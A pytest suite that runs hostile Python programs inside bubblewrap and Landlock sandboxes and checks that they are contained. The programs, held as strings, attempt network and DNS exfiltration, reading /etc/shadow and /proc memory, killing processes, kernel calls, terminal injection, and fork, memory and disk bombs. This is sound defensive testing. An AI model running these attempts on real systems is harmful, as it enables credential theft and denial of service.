"""Hostile programs, really run in each sandbox this machine has, as whoever runs the tests and as an ordinary user."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from tests.unit.sandbox_play import SECRET, kernel_abi, play

Play = Callable[..., Awaitable[dict[str, Any]]]

DRIVER = Path(__file__).with_name("sandbox_play.py")
ORDINARY_UID = 54_321
TRY = """
import os, sys, socket, ctypes
libc = ctypes.CDLL(None, use_errno=True)
env = os.environ
def attempt(name, act):
    try:
        print(name, "DONE", act())
    except BaseException as error:
        print(name, "failed", type(error).__name__)
"""


def python_for_everyone() -> str | None:
    """An interpreter that another user may run and that can import what the sandbox needs."""
    for candidate in (sys.executable, "/usr/bin/python3", "/usr/local/bin/python3"):
        check = "import sys; sys.exit(sys.version_info < (3, 11))"
        if os.geteuid() != 0 or not Path(candidate).exists():
            continue
        try:
            done = subprocess.run(
                [candidate, "-c", check], user=ORDINARY_UID, group=ORDINARY_UID, extra_groups=[], check=False
            )
        except PermissionError:
            continue
        if done.returncode == 0:
            return candidate
    return None


def command_as_user() -> list[str]:
    python = python_for_everyone()
    if python is None:
        pytest.skip("needs root and a Python 3.11 that other users may run")
    return [python, "-B", str(DRIVER)]


def play_as_user(scene: dict[str, Any]) -> dict[str, Any]:
    done = subprocess.run(
        command_as_user(), input=json.dumps(scene), capture_output=True, text=True, check=False,
        user=ORDINARY_UID, group=ORDINARY_UID, extra_groups=[], cwd="/", env={"PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return dict(json.loads(done.stdout))


# "as user" is the same for those who run the tests as an ordinary user; version 1 of Landlock leaves most to seccomp
CAST = ["bubblewrap", "landlock", "bubblewrap as user", "landlock as user", "landlock-owner-1 as user"]


def need(name: str) -> None:
    if name.startswith("bubblewrap") and shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    if name.startswith("landlock") and kernel_abi() < 1:
        pytest.skip("the kernel has no Landlock")


@pytest.fixture(params=CAST)
def hostile(request: pytest.FixtureRequest) -> Play:
    """Plays a program: `await hostile(program, limits={...}, files={...}, collect=True, report=name)`."""
    name = str(request.param)
    need(name)

    async def played(program: str, **scene: Any) -> dict[str, Any]:
        scene |= {"program": program, "sandbox": name.split(maxsplit=1)[0]}
        if name.endswith("as user") and os.geteuid() == 0:
            return await asyncio.to_thread(play_as_user, scene)
        return await play(scene)

    return played


def unharmed(outcome: dict[str, Any]) -> None:
    assert outcome["refused"] is None
    assert outcome["outside_changed"] is False
    assert outcome["heard"] == []
    assert outcome["bystander_alive"]
    assert SECRET not in outcome["output"]


def alive(marker: str) -> list[int]:
    """Processes whose command line holds the marker."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal():
            try:
                state = (entry / "stat").read_text().rpartition(")")[2].split()[0]
                if (
                    marker in (entry / "cmdline").read_text(errors="replace")
                    and state != "Z"
                    and int(entry.name) != os.getpid()
                ):
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


async def gone(marker: str) -> bool:
    deadline = time.monotonic() + 10
    while alive(marker) and time.monotonic() < deadline:
        await asyncio.sleep(0.02)
    return not alive(marker)


async def test_no_network_of_any_kind(hostile: Play) -> None:
    outcome = await hostile(
        TRY
        + """
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", int(env["PORT"])), 2))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", int(env["UDP_PORT"]))) and 1 / 0)
attempt("far", lambda: socket.create_connection(("192.0.2.1", 80), 2))
attempt("dns", lambda: socket.getaddrinfo("secret.exfil.invalid", 80))
attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect(env["OUTSIDE"] + "/socket"))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + env["ABSTRACT"]))
for family in (16, 17, 38, 40):
    attempt(f"family{family}", lambda: socket.socket(family, socket.SOCK_RAW))
"""
    )
    unharmed(outcome)
    assert "DONE" not in outcome["output"]
    assert outcome["output"].count("PermissionError") >= 4


async def test_nothing_outside_is_written_or_touched(hostile: Play) -> None:
    outcome = await hostile(
        TRY
        + """
import shutil
canary, outside = env["CANARY"], env["OUTSIDE"]
attempt("write", lambda: open(canary, "w").write("x"))
attempt("new", lambda: open(outside + "/new", "w").write("x"))
attempt("truncate", lambda: os.truncate(canary, 0))
attempt("opentrunc", lambda: os.open(canary, os.O_RDONLY | os.O_TRUNC))
attempt("unlink", lambda: os.unlink(canary))
attempt("rename", lambda: os.rename(canary, outside + "/moved"))
attempt("steal", lambda: os.rename(canary, "stolen"))
attempt("link", lambda: os.link(canary, "linked"))
attempt("mkdir", lambda: os.mkdir(outside + "/folder"))
os.symlink(outside, "way_out")
attempt("through", lambda: open("way_out/new", "w").write("x"))
for act in (lambda: os.chmod(canary, 0), lambda: os.utime(canary, (0, 0)), lambda: os.setxattr(canary, "user.x", b"1"),
            lambda: os.chown(canary, os.getuid(), os.getgid())):
    try:
        act()
    except OSError:
        pass
for place in ("/", "/etc/", "/run/", "/usr/", "/dev/", "/home/", "/var/"):
    attempt(place, lambda: open(place + "gavotte-was-here", "w"))
attempt("python", lambda: open(os.__file__, "a"))
attempt("truncpython", lambda: os.open(os.__file__, os.O_RDONLY | os.O_TRUNC) if os.access(os.__file__, os.W_OK) else 1 / 0)
"""
    )
    unharmed(outcome)
    assert "DONE" not in outcome["output"]
    assert Path(os.__file__).stat().st_size > 1000


async def test_secrets_cannot_be_read(hostile: Play) -> None:
    outcome = await hostile(
        TRY
        + """
attempt("canary", lambda: open(env["CANARY"]).read())
print(dict(os.environ))
for pid in ["1", "2", "self", str(os.getppid()), env["HARNESS"], env["BYSTANDER"]]:
    for name in ("environ", "mem", "fd/0", "root/etc/shadow"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read(1 << 20))
        except (OSError, MemoryError):
            pass
attempt("shadow", lambda: open("/etc/shadow").read())
attempt("home", lambda: os.listdir("/root"))
"""
    )
    unharmed(outcome)
    assert "shadow DONE" not in outcome["output"]
    assert "canary DONE" not in outcome["output"]
    assert "ANTHROPIC" not in outcome["output"]


async def test_other_processes_are_out_of_reach(hostile: Play) -> None:
    outcome = await hostile(
        TRY
        + """
import resource, fcntl
pid = int(env["BYSTANDER"])
for call in (lambda: os.kill(pid, 9), lambda: os.kill(int(env["HARNESS"]), 15), lambda: libc.syscall(424, 3, 9, 0, 0) and 1 / 0,
             lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)), lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)):
    try:
        call()
    except BaseException as error:
        pass
a, b = __import__("socket").socketpair()
try:
    fcntl.fcntl(a, 10, 9); fcntl.fcntl(a, fcntl.F_SETOWN, pid)
    fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC); b.send(b"x")
except OSError:
    pass
sys.stdout.flush()
try:
    os.kill(-1, 9)
except OSError:
    pass
"""
    )
    assert outcome["refused"] is None
    assert outcome["bystander_alive"]


async def test_kernel_interfaces_are_refused(hostile: Play) -> None:
    outcome = await hostile(
        TRY
        + """
x86 = os.uname().machine == "x86_64"
print([libc.ptrace(16, 1, 0, 0), libc.unshare(0x10000000), libc.syscall(321 if x86 else 280, 0, 0, 0),
       libc.syscall(425, 8, 0), libc.syscall(250 if x86 else 219, 0, 0), libc.mount(b"x", b"/w", b"tmpfs", 0, 0),
       libc.syscall(304 if x86 else 265, 3, 0, 0), libc.syscall(4000)])
import fcntl
attempt("tiocsti", lambda: fcntl.ioctl(0, 0x5412, b"i"))
attempt("suid", lambda: os.setuid(0) if os.getuid() else 1 / 0)
attempt("ns", lambda: print(libc.syscall(56 if x86 else 220, 0x10000000 | 17, 0, 0, 0, 0)) or 1 / 0)
"""
    )
    unharmed(outcome)
    assert "[-1, -1, -1, -1, -1, -1, -1, -1]" in outcome["output"]
    assert "DONE" not in outcome["output"]
    assert "\n-1\n" in outcome["output"]


async def test_fork_bomb_is_bounded_and_leaves_nobody(hostile: Play) -> None:
    marker = uuid.uuid4().hex
    program = f"""
# {marker}
import os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
print("born", flush=True)
end = time.monotonic() + 1.5
while time.monotonic() < end:
    try:
        if os.fork() == 0:
            os.setsid()
            print("born", flush=True)
    except OSError:
        time.sleep(0.01)
time.sleep(100)
"""
    outcome = await hostile(program, limits={"wall_seconds": 3, "processes": 24})
    unharmed(outcome)
    assert outcome["timed_out"] or "more than 24 processes" in outcome["output"]
    assert outcome["exit_code"] == 137
    assert 1 < outcome["output"].count("born") < 60
    assert await gone(marker)


@pytest.mark.parametrize("how", ["setsid", "double fork", "ignores signals"])
async def test_no_survivor_of_a_command_that_ended(hostile: Play, how: str) -> None:
    marker = uuid.uuid4().hex
    outcome = await hostile(
        f"""
# {marker}
import os, signal, time, sys
if os.fork() == 0:
    if {how!r} != "ignores signals":
        os.setsid()
    if {how!r} == "double fork" and os.fork():
        os._exit(0)
    for number in (1, 2, 15, 20):
        signal.signal(number, signal.SIG_IGN)
    time.sleep(1000)
print("parent ends")
"""
    )
    unharmed(outcome)
    assert outcome["exit_code"] == 0
    assert outcome["output"] == "parent ends\n"
    assert await gone(marker)


async def test_time_out_kills_everyone(hostile: Play) -> None:
    marker = uuid.uuid4().hex
    outcome = await hostile(
        f"# {marker}\nimport os, signal, time\nsignal.signal(15, signal.SIG_IGN)\nos.fork()\nos.setsid if 0 else 0\ntime.sleep(1000)",
        limits={"wall_seconds": 1},
    )
    assert outcome["timed_out"]
    assert outcome["exit_code"] == 137
    assert outcome["duration_ms"] < 15_000
    assert await gone(marker)


async def test_memory_of_one_process_and_of_all(hostile: Play) -> None:
    limits = {"memory_bytes": 300 << 20}
    one = await hostile("b = bytearray(1 << 30); print('DONE')", limits=limits)
    assert one["exit_code"] == 1
    assert "MemoryError" in one["output"]
    every = await hostile(
        """
import os, time
for _ in range(6):
    if os.fork() == 0:
        held = bytearray(os.urandom(1) * (100 << 20))
        time.sleep(60)
time.sleep(60)
""",
        limits={**limits, "wall_seconds": 30},
    )
    assert every["exit_code"] == 137
    assert not every["timed_out"]
    assert "bytes of memory" in every["output"]


async def test_disk_is_bounded(hostile: Play) -> None:
    outcome = await hostile(
        """
import time
for i in range(100_000):
    open(f"f{i}", "wb").write(b"0" * (1 << 20))
""",
        limits={"disk_bytes": 30 << 20, "wall_seconds": 30},
    )
    unharmed(outcome)
    assert outcome["exit_code"] != 0
    assert not outcome["timed_out"]
    one = await hostile("open('big', 'wb').write(b'0' * (9 << 20))", limits={"file_bytes": 4 << 20})
    assert one["exit_code"] != 0


async def test_output_flood_is_stopped(hostile: Play) -> None:
    outcome = await hostile(
        "import sys\nprint('first line')\nwhile True: sys.stdout.write('x' * 65536)", limits={"output_bytes": 20_000}
    )
    assert outcome["output_truncated"]
    assert outcome["exit_code"] == 137
    assert outcome["output"].startswith("first line\n")
    assert len(outcome["output"]) < 25_000


async def test_a_long_output_keeps_its_head_and_tail(hostile: Play) -> None:
    outcome = await hostile("print('first'); print('x' * 40_000); print('last')", limits={"output_bytes": 20_000})
    assert outcome["exit_code"] == 0
    assert outcome["output_truncated"]
    assert outcome["output"].startswith("first\n")
    assert outcome["output"].endswith("last\n")


async def test_output_cannot_steer_a_terminal(hostile: Play) -> None:
    outcome = await hostile(
        "print('\\x1b]52;c;eA==\\x07\\x1b[2J\\x9b1m\\u202e\\rdone é \\udcff'.encode('utf-8', 'surrogateescape').decode('latin-1'))"
    )
    assert not {"\x1b", "\x07", "\x9b", "\u202e", "\r"} & set(outcome["output"])
    assert "\\x1b]52" in outcome["output"]


CHANGES = """
import os, pathlib
pathlib.Path("kept.py").write_text("new\\n")
pathlib.Path("sub/added é.txt").write_bytes(b"\\x00\\xff")
pathlib.Path("same.py").write_text("same\\n")
os.unlink("gone.py")
os.makedirs("sub/__pycache__"); pathlib.Path("sub/__pycache__/a.pyc").write_text("x")
os.mkdir(".ruff_cache"); pathlib.Path(".ruff_cache/x").write_text("x")
pathlib.Path("mode.sh").chmod(0o755)
"""


async def test_changes_come_out_and_the_tree_stays(hostile: Play) -> None:
    files = {
        "kept.py": "old\n",
        "same.py": "same\n",
        "gone.py": "",
        "sub/a.txt": "a",
        "mode.sh": "x",
        "link": "-> kept.py",
    }
    outcome = await hostile(CHANGES, files=files, collect=True)
    unharmed(outcome)
    assert outcome["exit_code"] == 0, outcome["output"]
    outcome["changed"].pop("mode.sh", None)  # modes are a pretence where the command shares its user with others
    assert outcome["changed"] == {"kept.py": ["new\n", False], "sub/added é.txt": ["\x00\xff", False]}
    assert outcome["deleted"] == ["gone.py"]
    assert outcome["tree_after"] == sorted([*files, "sub"])


@pytest.mark.parametrize(
    ("program", "says"),
    [
        ("import os; os.symlink('/etc', 'out')", "a link"),
        ("import os; os.symlink('/etc/passwd', 'a'); os.rename('a', 'kept.py')", "a link"),
        ("import os; open('a', 'w').write('x'); os.link('a', 'b')", "a hard link"),
        ("import os; os.mkfifo('pipe')", "a pipe"),
        ("import os; os.mkdir('.git'); open('.git/config', 'w').write('x')", "a folder ('.git')"),
        ("import os; os.makedirs('sub/.GIT/hooks')", "a folder ('sub/.GIT')"),
        ("open('.git', 'w').write('gitdir: /x')", "a git folder"),
        ("open('a\\nb', 'w').write('x')", "unprintable"),
        ("open('big', 'wb').write(b'0' * (3 << 20))", "bytes of changes"),
        ("import os\nfor i in range(300): os.mkdir('d'); os.chdir('d')", "too deep"),
    ],
)
async def test_what_is_no_plain_file_is_refused(hostile: Play, program: str, says: str) -> None:
    scene = {"files": {"kept.py": "x"}, "limits": {"changes_bytes": 1 << 20}}
    outcome = await hostile(program, collect=True, **scene)
    assert says in str(outcome["refused"])
    assert outcome["outside_changed"] is False
    fine = await hostile(program, **scene)  # nothing is collected from a test run, so nothing is refused
    assert fine["exit_code"] == 0, fine


async def test_the_report_is_read_only_if_it_is_a_plain_file(hostile: Play) -> None:
    good = await hostile("import os; open(os.environ['TMPDIR'] + '/r.xml', 'w').write('<x/>')", report="r.xml")
    assert good["report"] == "<x/>"
    link = await hostile("import os; os.symlink(os.environ['CANARY'], os.environ['TMPDIR'] + '/r.xml')", report="r.xml")
    assert link["report"] is None
    pipe = await hostile("import os; os.mkfifo(os.environ['TMPDIR'] + '/r.xml')", report="r.xml")
    assert pipe["report"] is None
    assert (await hostile("pass", report="r.xml"))["report"] is None


async def test_awkward_folders_are_cleaned_up(hostile: Play) -> None:
    left = set(Path(tempfile.gettempdir()).glob("gavotte-run-*"))
    outcome = await hostile(
        """
import os
os.mkdir("locked"); open("locked/file", "w").close(); os.chmod("locked", 0)
os.mkdir("never", 0)
try:
    for i in range(6000):
        os.mkdir("d"); os.chdir("d")
except OSError as error:
    print(error)
""",
        limits={"wall_seconds": 60},
    )
    assert outcome["refused"] is None
    mode = await hostile("import os; os.chmod('.', 0)", collect=True)
    assert mode["refused"] is None
    assert set(Path(tempfile.gettempdir()).glob("gavotte-run-*")) <= left


async def test_ordinary_programs_work(hostile: Play) -> None:
    """A sandbox that refuses everything is no use: this is what test suites do."""
    outcome = await hostile(
        """
import asyncio, concurrent.futures, os, shutil, socket, subprocess, sys, tempfile, threading
with tempfile.TemporaryDirectory() as folder:
    os.mkdir(folder + "/a"); open(folder + "/a/f", "w").write("x")
    shutil.copytree(folder + "/a", folder + "/b"); shutil.copy2(folder + "/a/f", folder + "/c")
    shutil.move(folder + "/b/f", folder + "/moved")
assert subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True, check=True).stdout == b"1\\n"
assert subprocess.run("echo a > /dev/null && echo b | cat", shell=True, capture_output=True).stdout == b"b\\n"
async def main():
    await asyncio.sleep(0)
    return await asyncio.to_thread(lambda: 3)
assert asyncio.run(main()) == 3
assert list(concurrent.futures.ThreadPoolExecutor(4).map(str, range(4)))
a, b = socket.socketpair(); a.send(b"x"); assert b.recv(1) == b"x"
assert len(os.urandom(4)) == 4
import ssl, sqlite3, hashlib, ctypes, multiprocessing
print("fine")
""",
        files={"a.py": "x"},
    )
    unharmed(outcome)
    assert outcome["output"] == "fine\n", outcome["output"]


async def test_cancelling_kills_the_tree_at_once(request: pytest.FixtureRequest) -> None:
    for name in ("bubblewrap", "landlock", "landlock-owner-1", "unsafe"):
        if name == "bubblewrap" and shutil.which("bwrap") is None:
            continue
        marker = uuid.uuid4().hex
        program = f"# {marker}\nimport os, time\nos.fork()\nos.fork()\ntime.sleep(1000)"
        run = asyncio.create_task(play({"sandbox": name, "program": program}))
        while len(alive(marker)) < 4:
            await asyncio.sleep(0.01)
        run.cancel()
        with pytest.raises(asyncio.CancelledError):
            await run
        assert await gone(marker), name


@pytest.mark.parametrize("name", ["bubblewrap", "landlock", "landlock-owner-1"])
async def test_the_tree_dies_with_its_harness(name: str, tmp_path: Path) -> None:
    need(name)
    marker = uuid.uuid4().hex
    program = (
        f"# {marker}\nimport os, time\nos.fork()\nos.setsid() if os.getpgrp() != os.getpid() else 0\ntime.sleep(1000)"
    )
    harness = subprocess.Popen(  # noqa: ASYNC220 - it starts at once
        [sys.executable, str(DRIVER)],
        stdin=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        env={**os.environ, "TMPDIR": str(tmp_path)},
    )
    assert harness.stdin is not None
    harness.stdin.write(json.dumps({"sandbox": name, "program": program}).encode())
    harness.stdin.close()
    deadline = time.monotonic() + 20
    while len(alive(marker)) < 2 and time.monotonic() < deadline:
        await asyncio.sleep(0.01)
    harness.send_signal(signal.SIGKILL)
    harness.wait()
    assert await gone(marker)
